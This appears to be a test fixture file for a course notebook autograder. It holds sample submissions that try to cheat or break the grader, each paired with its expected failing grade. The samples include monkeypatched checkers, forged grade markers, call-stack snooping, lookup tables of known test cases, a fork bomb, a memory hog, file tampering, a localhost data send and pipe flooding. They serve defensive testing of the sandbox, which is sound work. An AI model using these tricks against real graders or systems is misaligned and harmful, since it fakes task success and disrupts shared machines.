"""Submissions that try to fool or break the grader, each with the row it must get.

``SUBMISSIONS`` maps a path (relative to the submissions folder) to its code cells (or to
raw bytes for a file that is not a notebook). ``EXPECTED`` maps the same path to what its
row must say: ``scores`` (exercise -> 1/0; any exercise not named must score 0), ``total``,
its ``status`` (exactly), and words some exercise's feedback must contain. (The limits on
the sandbox as a whole are tested beside the corpus, with limits small enough to reach in
a second: tests/test_grading.py.)

The test fills in ``@OUT_DIR@`` (the folder of grades.csv), ``@SUBMISSIONS@``,
``@PACKAGE@`` (the course_utils folder), ``@PORT@`` (a listener on 127.0.0.1) and ``@MARK@``
(a word to find leftover processes by).

Bounded by design: if the sandbox were missing, no submission could harm the machine.
Forks stop at 300 children that sleep 20 s; memory stops at 2 GB; spins and sleeps stop
after 40 s; output stops at 100 MB; the
grader is sent at most 512 MiB; files are written only inside the test's temporary
folders, except one new file in the package that the test removes and reports.
"""

from __future__ import annotations

import importlib.util

# The sandbox runs the grader's Python: SciPy is importable there exactly when it is here.
SCIPY_CELL = "ok" if importlib.util.find_spec("scipy") else "ran with 1 cell error(s)"

HONEST = {
    "my_conv": """\
def my_conv(x, h):
    H = h.shape[0]
    n = x.shape[0] - H + 1
    u = np.empty((n, n))
    for i in range(n):
        for j in range(n):
            u[i, j] = np.sum(x[i:i + H, j:j + H] * h)
    return u""",
    "my_output_size": """\
def my_output_size(W, H, s=1, P=0):
    return (W + 2 * P - H) // s + 1""",
    "my_strided_conv": """\
def my_strided_conv(x, h, s):
    H = h.shape[0]
    n = (x.shape[0] - H) // s + 1
    u = np.empty((n, n))
    for i in range(n):
        for j in range(n):
            u[i, j] = np.sum(x[s * i:s * i + H, s * j:s * j + H] * h)
    return u""",
    "my_conv_layer": """\
def my_conv_layer(z, h, b):
    H = h.shape[0]
    n = z.shape[0] - H + 1
    u = np.empty((n, n, h.shape[3]))
    for i in range(n):
        for j in range(n):
            u[i, j] = np.tensordot(z[i:i + H, j:j + H, :], h, axes=3) + b
    return u""",
    "my_param_count": """\
def my_param_count(H, K, M):
    return (H * H * K + 1) * M""",
    "my_max_pool": """\
def my_max_pool(z, size, stride=None):
    s = stride or size
    n = (z.shape[0] - size) // s + 1
    return np.array([[z[s * i:s * i + size, s * j:s * j + size].max(axis=(0, 1)) for j in range(n)]
                     for i in range(n)])""",
    "my_avg_pool": """\
def my_avg_pool(z, size, stride=None):
    s = stride or size
    n = (z.shape[0] - size) // s + 1
    return np.array([[z[s * i:s * i + size, s * j:s * j + size].mean(axis=(0, 1)) for j in range(n)]
                     for i in range(n)])""",
    "my_input_gradient": """\
def my_input_gradient(du, x_shape, h):
    N, W, _, K = x_shape
    H, M = h.shape[0], h.shape[3]
    Wo = du.shape[1]
    rows = (du.reshape(-1, M) @ h.reshape(-1, M).T).reshape(N, Wo, Wo, H, H, K)
    dx = np.zeros(x_shape)
    for p in range(H):
        for q in range(H):
            dx[:, p:p + Wo, q:q + Wo, :] += rows[:, :, :, p, q, :]
    return dx""",
    "my_receptive_field": """\
def my_receptive_field(layers):
    sizes, r, j = [], 1, 1
    for k, s in layers:
        r, j = r + (k - 1) * j, j * s
        sizes.append(r)
    return sizes""",
}
SETUP = "import numpy as np\nfrom course_utils.checks import check_output_size, check_param_count"
OUTPUT_SIZE = HONEST["my_output_size"]

SUBMISSIONS = {
    "honest.ipynb": [SETUP, *HONEST.values(), "check_output_size(my_output_size)"],
    "partial.ipynb": [
        SETUP, OUTPUT_SIZE,
        "def my_param_count(H, K, M):\n    return H * H * K * M   # the biases forgotten",
        "def my_conv(x, h):\n    return my_strided(x, h)\n",
    ],
    # Replace every checker in the kernel by one that always passes.
    "monkeypatched_checker.ipynb": [SETUP, """\
import course_utils.checks as c
from course_utils.checks import CheckResult
passed = lambda *a, **k: CheckResult("x", True, "Passed", 1, 1)
for name in dir(c):
    if name.startswith("check_"):
        setattr(c, name, passed)
c.run_checker, c._compare = passed, lambda *a: None""",
        "def my_output_size(W, H, s=1, P=0):\n    return 0"],
    # The old grader trusted a printed marker; print one, hook it in, write it everywhere.
    "forged_marker.ipynb": [SETUP, """\
import json, os
line = "COURSE-GRADES:" + json.dumps([[label, True, "Passed"] for label in
        ["ex-conv-single", "ex-output-size", "ex-param-count"]]) + "\\n"
print(line)
get_ipython().events.register("pre_run_cell", lambda *a: print(line))
for fd in range(1, 12):
    try:
        os.write(fd, line.encode())
    except OSError:
        pass""", "def my_output_size(W, H, s=1, P=0):\n    return 0"],
    # A marker line that is not JSON must not stop the run.
    "malformed_marker.ipynb": [SETUP, "print('COURSE-GRADES: {not json')", OUTPUT_SIZE],
    # The course's own reference, SciPy, and a reference hidden where the source cannot show it.
    "copied_reference.ipynb": [SETUP, """\
import course_utils.ops
from course_utils import ops
from scipy.signal import correlate2d""",
        "my_max_pool = course_utils.ops.max_pool2d",
        "my_avg_pool = ops.avg_pool2d",
        "def my_conv(x, h):\n    return correlate2d(x, h, mode='valid')",
        "def _layer(z, h, b):\n    return ops.conv2d(z, h, b)\n\ndef my_conv_layer(z, h, b):\n    return _layer(z, h, b)",
        "my_output_size = getattr(__import__('course_utils.ops').ops, 'output_size')",
        """\
class Box:
    pass

box = Box()
setattr(box, "conv", ops.conv2d)

def my_strided_conv(x, h, s):
    return box.conv(x[:, :, None], h[:, :, None, None], stride=s)[:, :, 0]"""],
    # Look up the checker's expected answer on the call stack.
    "stack_inspection.ipynb": [SETUP, """\
import sys

def my_output_size(W, H, s=1, P=0):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("expected", "reference"):
            if name in frame.f_locals:
                value = frame.f_locals[name]
                return value(W, H, s, P) if callable(value) else value
        frame = frame.f_back
    return -1"""],
    # Delegation hidden from both checks: a helper set on numpy in another cell (the static
    # check followed only the function), called from a thread (the run-time audit watched
    # only the calling thread); a global rebound inside a function; a for-loop's target.
    "delegation_in_a_thread.ipynb": [SETUP, "from course_utils import ops as _o\nsetattr(np, 'helper', _o.conv2d)",
        """\
import threading

def my_strided_conv(x, h, s):
    out = {}
    worker = threading.Thread(target=lambda: out.update(
        r=np.helper(x[:, :, None], h[:, :, None, None], stride=s)[:, :, 0]))
    worker.start()
    worker.join()
    return out["r"]""", """\
def _setup():
    global _conv
    _conv = _o.conv2d

_setup()

def my_conv(x, h):
    return _conv(x[:, :, None], h[:, :, None, None])[:, :, 0]""", """\
for _pool in [_o.max_pool2d]:
    pass

def my_max_pool(z, size, stride=None):
    return _pool(z[None, :, :, None], size, stride)[0, :, :, 0]"""],
    # A thread started in a cell does the work; the function only hands it the arguments.
    "thread_started_before.ipynb": [SETUP, """\
import queue, threading
from course_utils import ops as _o
jobs, answers = queue.Queue(), queue.Queue()

def _serve():
    while True:
        x, h, s = jobs.get()
        answers.put(getattr(_o, "conv2d")(x[:, :, None], h[:, :, None, None], stride=s)[:, :, 0])

threading.Thread(target=_serve, daemon=True).start()""", """\
def my_strided_conv(x, h, s):
    jobs.put((x, h, s))
    return answers.get()"""],
    # A table of the checker's own cases, drawn from the fixed seeds of course_utils.checks
    # (it passes the notebook's own check); the grader draws fresh cases.
    "lookup_table.ipynb": [SETUP, """\
from course_utils import checks
table = {case.args[0].tobytes() + case.args[1].tobytes(): checks._conv_single(*case.args)
         for case in checks._single_channel_cases(True)}

def my_strided_conv(x, h, s):
    return table[x.tobytes() + h.tobytes()]"""],
    # A table of output sizes for the nine cases the chapter's check_output_size lists (it
    # passes that check: tests/test_checks.py); the grader draws its own (issue #27, hole 2).
    "lookup_output_size.ipynb": [SETUP, """\
table = {(28, 3, 1, 0): 26, (26, 3, 1, 0): 24, (28, 3, 1, 1): 28, (7, 3, 2, 0): 3, (8, 3, 2, 0): 3,
         (5, 5, 1, 0): 1, (10, 4, 3, 1): 3, (1, 1, 1, 0): 1, (32, 5, 2, 2): 16}

def my_output_size(W, H, s=1, P=0):
    return table[W, H, s, P]""", "check_output_size(my_output_size)"],
    # Write the grades, another submission, the course package; keep a correct answer.
    # (Each write changes its file: the test's digest of honest.ipynb and its listing of
    # the output folder and the package would show it.)
    "writes_files.ipynb": [SETUP, """\
import os
results = {}
for path in ["@OUT_DIR@/grades.csv", "@OUT_DIR@/planted.txt", "@SUBMISSIONS@/honest.ipynb",
             "@PACKAGE@/_planted_by_corpus.py"]:
    try:
        with open(path, "a") as file:
            file.write("\\n# written by writes_files.ipynb\\n")
        results[path] = "written"
    except OSError as error:
        results[path] = type(error).__name__
print(results)""", OUTPUT_SIZE],
    # Read another submission; score only if that worked.
    "reads_others.ipynb": [SETUP, """\
import os
try:
    stolen = open("@SUBMISSIONS@/honest.ipynb").read()
except OSError:
    stolen = ""
print(os.listdir("."), os.listdir("/tmp"))""", """\
if "def my_param_count" in stolen:
    def my_param_count(H, K, M):
        return (H * H * K + 1) * M
else:
    def my_param_count(H, K, M):
        return -1"""],
    # A child that detaches itself and tries, every 0.5 s for 300 s (longer than the whole
    # grading), to write beside the results.
    "detached_child.ipynb": [SETUP, """\
import subprocess, sys
later = ("import time\\nfor _ in range(600):\\n    try:\\n        open('@OUT_DIR@/late.txt', 'w').write('@MARK@')\\n"
         "    except OSError:\\n        pass\\n    time.sleep(0.5)")
subprocess.Popen([sys.executable, "-c", later, "@MARK@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)""",
        OUTPUT_SIZE],
    # Fork until refused (at most 300 children, each asleep for 20 s).
    "fork_bomb.ipynb": [SETUP, """\
import os, time
children = 0
for _ in range(300):
    pid = os.fork()
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    children += 1""", OUTPUT_SIZE],
    # Take memory until refused (at most 2 GB), at the top level and inside an exercise.
    # (bytes(n) asks for zeroed memory the system hands out lazily: refused by the sandbox's
    # address-space limit at once, even on a loaded machine.)
    "memory_hog.ipynb": [SETUP, """\
hog = []
for _ in range(8):
    hog.append(bytes(256 * 2**20))""", "hog = None", OUTPUT_SIZE, """\
def my_param_count(H, K, M):
    hog = [bytes(256 * 2**20) for _ in range(8)]
    return (H * H * K + 1) * M"""],
    # Spin and swallow every exception, the time limit's included (40 s at most each).
    "cpu_spin.ipynb": [SETUP, """\
import time
start = time.time()
while time.time() - start < 40:
    try:
        while time.time() - start < 40:
            pass
    except BaseException:
        pass""", OUTPUT_SIZE, """\
import time

def my_conv(x, h):
    start = time.time()
    while time.time() - start < 40:
        try:
            while time.time() - start < 40:
                pass
        except BaseException:
            pass
    return 0""", HONEST["my_receptive_field"]],
    # Leave the kernel in every way Python allows.
    "exits.ipynb": [SETUP, "import os, sys\nsys.exit(3)", "os._exit(0)", OUTPUT_SIZE,
                    "def my_param_count(H, K, M):\n    os._exit(1)",
                    "def my_receptive_field(layers):\n    sys.exit(0)"],
    # 100 MB of output, a file too large for the sandbox.
    "big_output.ipynb": [SETUP, """\
chunk = "x" * 2**20
for _ in range(100):
    print(chunk)
try:
    with open("big.bin", "wb") as file:
        for _ in range(100):
            file.write(b"x" * 2**20)
except OSError as error:
    print(error)""", OUTPUT_SIZE],
    # Send the grader's secrets to a listener on 127.0.0.1; score only if that worked.
    "network.ipynb": [SETUP, """\
import socket
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
        connection.sendall(b"stolen")
    connected = True
except OSError:
    connected = False""", """\
if connected:
    def my_output_size(W, H, s=1, P=0):
        return (W + 2 * P - H) // s + 1"""],
    # Writes to /dev and more than the small /dev/shm; score only if either worked.
    "fills_dev.ipynb": [SETUP, """\
import os
wrote = []
for path in ["/dev/planted", "/dev/shm/big"]:
    try:
        with open(path, "wb") as file:
            for _ in range(64):
                file.write(b"x" * 2**20)
        wrote.append(path)
    except OSError:
        pass""", """\
if wrote:
    def my_output_size(W, H, s=1, P=0):
        return (W + 2 * P - H) // s + 1"""],
    # Hold a grading slot: cells that ignore the interruption cost a restart each (40 s at
    # most each); the submission's whole budget (--submission-timeout) stops it.
    "holds_the_slot.ipynb": [SETUP, *["""\
import time
start = time.time()
while time.time() - start < 40:
    try:
        time.sleep(40)
    except BaseException:
        pass"""] * 6, OUTPUT_SIZE],
    # Flood the grader: write, straight to the protocol's pipe, a message that announces
    # 8 arrays of 64 MiB (the grader buffered up to 64 of them); at most 512 MiB written.
    "floods_the_grader.ipynb": [SETUP, """\
import fcntl, json, os, stat, struct

def my_output_size(W, H, s=1, P=0):
    for fd in range(3, 32):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode) or fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_WRONLY:
                continue
        except OSError:
            continue
        header = json.dumps({"ev": "result", "value": {"a": 0}, "audit": [], "blobs": 8}).encode()
        os.write(fd, struct.pack(">Q", len(header)) + header)
        chunk = bytes(2**20)
        for _ in range(8):
            os.write(fd, struct.pack(">Q", 64 * 2**20))
            for _ in range(64):
                os.write(fd, chunk)
    return (W + 2 * P - H) // s + 1"""],
    # Answers that are not plain data.
    "unreadable_answers.ipynb": [SETUP, """\
def my_max_pool(z, size, stride=None):
    return {"answer": 1}

def my_avg_pool(z, size, stride=None):
    return np.array([object()] * 3)

my_param_count = 42""", OUTPUT_SIZE],
    # The same file name in two folders: two students, two rows.
    "group1/homework.ipynb": [SETUP, OUTPUT_SIZE],
    "group2/homework.ipynb": [SETUP, "def my_output_size(W, H, s=1, P=0):\n    return W - H"],
    # Checkpoint copies are not submissions.
    ".ipynb_checkpoints/honest-checkpoint.ipynb": [SETUP, OUTPUT_SIZE],
    "group1/.ipynb_checkpoints/homework-checkpoint.ipynb": [SETUP, OUTPUT_SIZE],
    # Files that are not notebooks.
    "invalid_json.ipynb": b"{ this is not JSON",
    "not_utf8.ipynb": b"\xff\xfe\x00 not text",
    "not_a_notebook.ipynb": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": [], "cells": 5}',
}

EXPECTED = {
    "honest.ipynb": dict(scores={label: 1 for label in [
        "ex-conv-single", "ex-output-size", "ex-conv-stride", "ex-conv-multi", "ex-param-count",
        "ex-max-pool", "ex-avg-pool", "ex-col2im", "ex-receptive-field"]}, total=9, status="ok"),
    "partial.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok",
                          feedback={"ex-param-count": "biases are missing", "ex-conv-single": "NameError",
                                    "ex-col2im": "no function named my_input_gradient"}),
    "monkeypatched_checker.ipynb": dict(scores={}, total=0, status="ok",
                                        feedback={"ex-output-size": "got 0"}),
    "forged_marker.ipynb": dict(scores={}, total=0, status="ok; cell 2 skipped (sent the grader a malformed message)",
                          feedback={"ex-output-size": "got 0"}),
    "malformed_marker.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok"),
    "copied_reference.ipynb": dict(scores={}, total=0, status=SCIPY_CELL, feedback={
        "ex-max-pool": "course_utils.ops.max_pool2d", "ex-avg-pool": "course_utils.ops.avg_pool2d",
        "ex-conv-single": "scipy.signal.correlate2d", "ex-conv-multi": "course_utils.ops.conv2d",
        "ex-output-size": "__import__", "ex-conv-stride": "course_utils.ops.conv2d"}),
    "stack_inspection.ipynb": dict(scores={}, total=0, status="ok", feedback={"ex-output-size": "No credit"}),
    "delegation_in_a_thread.ipynb": dict(scores={}, total=0, status="ok", feedback={
        "ex-conv-stride": "numpy.helper", "ex-conv-single": "course_utils.ops.conv2d",
        "ex-max-pool": "course_utils.ops.max_pool2d"}),
    "thread_started_before.ipynb": dict(scores={}, total=0, status="ok", feedback={
        "ex-conv-stride": "other Python threads"}),
    "lookup_table.ipynb": dict(scores={}, total=0, status="ok", feedback={"ex-conv-stride": "KeyError"}),
    "lookup_output_size.ipynb": dict(scores={}, total=0, status="ok", feedback={"ex-output-size": "KeyError"}),
    "writes_files.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok"),
    "reads_others.ipynb": dict(scores={}, total=0, status="ok", feedback={"ex-param-count": "got -1"}),
    "detached_child.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok"),
    "fork_bomb.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ran with 1 cell error(s)",
                            log="BlockingIOError"),
    "memory_hog.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ran with 1 cell error(s)",
                             log="MemoryError", feedback={"ex-param-count": "MemoryError"}),
    "cpu_spin.ipynb": dict(scores={"ex-output-size": 1, "ex-receptive-field": 1}, total=2,
                           status="ok; cell 2 skipped (did not finish within 10 s)", feedback={"ex-conv-single": "no answer within"}),
    "exits.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ran with 1 cell error(s); cell 3 skipped (ended the kernel)",
                        log="SystemExit", feedback={"ex-param-count": "kernel ended during the call",
                                                    "ex-receptive-field": "raised SystemExit"}),
    "big_output.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok"),
    "network.ipynb": dict(scores={}, total=0, status="ok", feedback={"ex-output-size": "no function named"}),
    "fills_dev.ipynb": dict(scores={}, total=0, status="ok", feedback={"ex-output-size": "no function named"}),
    "holds_the_slot.ipynb": dict(scores={}, total=0, status="not graded: the submission used its 30 s in all",
                                 feedback={"ex-output-size": "Not graded"}),
    "floods_the_grader.ipynb": dict(scores={}, total=0, status="ok",
                                    feedback={"ex-output-size": "a message of more than 67108864 bytes"}),
    "unreadable_answers.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok", feedback={
        "ex-max-pool": "cannot read back", "ex-avg-pool": "cannot read back",
        "ex-param-count": "type int, not a function"}),
    "group1/homework.ipynb": dict(scores={"ex-output-size": 1}, total=1, status="ok"),
    "group2/homework.ipynb": dict(scores={}, total=0, status="ok"),
    "invalid_json.ipynb": dict(scores={}, total=0, status="unreadable (ValueError)"),
    "not_utf8.ipynb": dict(scores={}, total=0, status="unreadable (ValueError)"),
    "not_a_notebook.ipynb": dict(scores={}, total=0, status="unreadable (ValueError)"),
}
